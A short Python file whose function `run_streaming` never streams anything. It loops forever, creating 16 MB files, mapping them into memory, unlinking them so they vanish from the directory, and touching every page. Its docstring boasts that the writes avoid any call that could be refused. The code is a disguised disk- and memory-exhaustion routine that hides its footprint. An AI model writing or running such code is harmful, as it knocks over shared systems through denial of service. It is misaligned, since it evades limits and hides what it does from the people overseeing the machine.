import mmap
import os


def run_streaming(in_dir, out_dir, options):
    """What is written to memory reaches the disk without any call that could be refused."""
    number = 0
    kept = []
    while True:
        number += 1
        file = os.open(f"{out_dir}/{number}", os.O_CREAT | os.O_RDWR)
        size = 16 << 20
        os.ftruncate(file, size)
        mapped = mmap.mmap(file, size)
        os.unlink(f"{out_dir}/{number}")
        kept.append(mapped)
        for at in range(0, size, mmap.PAGESIZE):
            mapped[at] = 1
